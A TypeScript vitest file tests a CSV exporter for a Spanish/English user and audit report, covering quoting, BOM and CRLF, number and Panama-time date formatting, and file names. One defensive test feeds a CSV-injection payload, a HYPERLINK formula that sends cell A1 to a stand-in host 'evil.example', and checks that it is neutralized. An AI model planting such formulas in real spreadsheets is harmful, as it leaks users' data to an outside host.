import { describe, expect, it } from 'vitest';
import { renderExport } from '../../../shared/export/index.ts';
import { auditDocument, userHeaders, userRows, usersDocument } from './fixtures.ts';

/** A tiny RFC 4180 parser: records of fields, quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else if (c === '\n' || c === '\r') throw new Error(`bare line break at ${i}`);
    else field += c;
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('last record without CRLF');
  return records;
}

async function csvOf(doc: Parameters<typeof renderExport>[1]) {
  const rendered = await renderExport('csv', doc);
  const text = rendered.body.toString('utf8');
  return { rendered, text, records: parseCsv(text.replace(/^\ufeff/, '')) };
}

describe('Export: csv', () => {
  it('writes the header row and every row as they were given, in Spanish', async () => {
    const rows = userRows(40);
    const { records } = await csvOf(usersDocument({ rows }));
    expect(records[0]).toEqual(userHeaders('es'));
    expect(records[1]).toEqual(['USR0001', 'María José', 'Núñez', 'BANCO', '12/27/23', 'Activo']);
    // Users created a day apart from 12/27/23, 15:30 in Panama.
    const day = (i: number) => new Date(Date.UTC(2023, 11, 27 + i));
    const mmddyy = (d: Date) =>
      [d.getUTCMonth() + 1, d.getUTCDate(), d.getUTCFullYear() % 100]
        .map((n) => String(n).padStart(2, '0'))
        .join('/');
    expect(records.slice(1)).toEqual(
      rows.map((r, i) => [r.userCode, r.firstName, r.lastName, r.createdBy, mmddyy(day(i)), r.state]),
    );
  });

  it('writes the English headers in English', async () => {
    const { records } = await csvOf(usersDocument({ language: 'en' }));
    expect(records[0]).toEqual(userHeaders('en'));
    expect(records[1]?.[4]).toBe('12/27/23');
  });

  it('starts with a UTF-8 byte-order mark and ends every record with CRLF', async () => {
    const { rendered, text } = await csvOf(usersDocument());
    expect([...rendered.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(5);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    // The accents are UTF-8.
    expect(rendered.body.includes(Buffer.from('Código', 'utf8'))).toBe(true);
  });

  it('quotes fields with commas, quotes, CR or LF and doubles the quotes', async () => {
    const tricky = ['Pérez, Juan', 'Dijo "hola"', 'línea 1\nlínea 2', 'a\r\nb', 'solo\rCR', '"'];
    const rows = tricky.map((lastName, i) => ({ userCode: `U${i}`, lastName }));
    const { text, records } = await csvOf(usersDocument({ rows }));
    expect(records.slice(1).map((r) => r[2])).toEqual(tricky);
    expect(text).toContain('"Pérez, Juan"');
    expect(text).toContain('"Dijo ""hola"""');
    expect(text).toContain('"línea 1\nlínea 2"');
    expect(text).toContain(',"""",');
    // Plain fields stay unquoted; missing cells are empty fields.
    expect(text).toContain('\r\nU0,,"Pérez, Juan",,,\r\n');
  });

  it.each(['=', '+', '-', '@', '\t', '\r', '\uff1d'])(
    'neutralizes a cell starting with %j (CSV injection)',
    async (start) => {
      const payload = `${start}HYPERLINK("http://evil.example/?x="&A1,"Clic")`;
      const { records } = await csvOf(usersDocument({ rows: [{ userCode: 'U1', firstName: payload }] }));
      expect(records[1]?.[1]).toBe(`'${payload}`);
    },
  );

  it('leaves harmless text alone, and numbers and amounts, negative ones too', async () => {
    const doc = usersDocument({
      columns: [
        { key: 'text', header: { es: 'Texto', en: 'Text' } },
        { key: 'count', header: { es: 'Cantidad', en: 'Count' } },
        { key: 'amount', header: { es: 'Monto', en: 'Amount' }, kind: 'amount' },
      ],
      rows: [
        { text: "O'Brien = jefe", count: -3, amount: -1234.5 },
        { text: 'a-b', count: 7, amount: '-20' },
        { text: '', count: null, amount: 1234567.891 },
      ],
    });
    const { records } = await csvOf(doc);
    expect(records.slice(1)).toEqual([
      ["O'Brien = jefe", '-3', '-1234.50'],
      ['a-b', '7', '-20.00'],
      ['', '', '1234567.89'],
    ]);
  });

  it('writes dates as MM/DD/AA and date-times in Panama time, whatever they came as', async () => {
    const doc = usersDocument({
      columns: [
        { key: 'd', header: { es: 'Fecha', en: 'Date' }, kind: 'date' },
        { key: 't', header: { es: 'Fecha y hora', en: 'Date and time' }, kind: 'datetime' },
      ],
      rows: [
        // 03:05 UTC is still the 27th, 22:05, in Panama.
        { d: new Date('2023-12-28T03:05:00Z'), t: new Date('2023-12-28T03:05:00Z') },
        { d: '2023-12-27', t: '2024-01-05T13:59:30.123Z' },
        { d: '2024-02-29T04:59:00Z', t: Date.UTC(2024, 6, 4, 12, 0) },
        { d: null, t: undefined },
        { d: 'no es fecha', t: new Date(Number.NaN) },
      ],
    });
    const { records } = await csvOf(doc);
    expect(records.slice(1)).toEqual([
      ['12/27/23', '12/27/23 22:05'],
      ['12/27/23', '01/05/24 08:59'],
      ['02/28/24', '07/04/24 07:00'],
      ['', ''],
      ['no es fecha', ''],
    ]);
  });

  it('names the file after the title, the company and the Panama time, with the CSV content type', async () => {
    const users = await renderExport('csv', usersDocument());
    expect(users.fileName).toBe('bop-usuarios-EMP001-20231227-2205.csv');
    expect(users.contentType).toBe('text/csv; charset=utf-8');
    const audit = await renderExport('csv', auditDocument({ companyCode: 'emp 002/ñ' }));
    expect(audit.fileName).toBe('bop-registro-de-auditoria-EMP-002-N-20240105-0900.csv');
    const english = await renderExport('csv', auditDocument({ language: 'en' }));
    expect(english.fileName).toBe('bop-audit-log-EMP001-20240105-0900.csv');
    expect(english.fileName).toMatch(/^[\x20-\x7e]+$/);
  });

  it('writes only the header row when there are no rows', async () => {
    const { records } = await csvOf(usersDocument({ rows: [] }));
    expect(records).toEqual([userHeaders('es')]);
  });
});
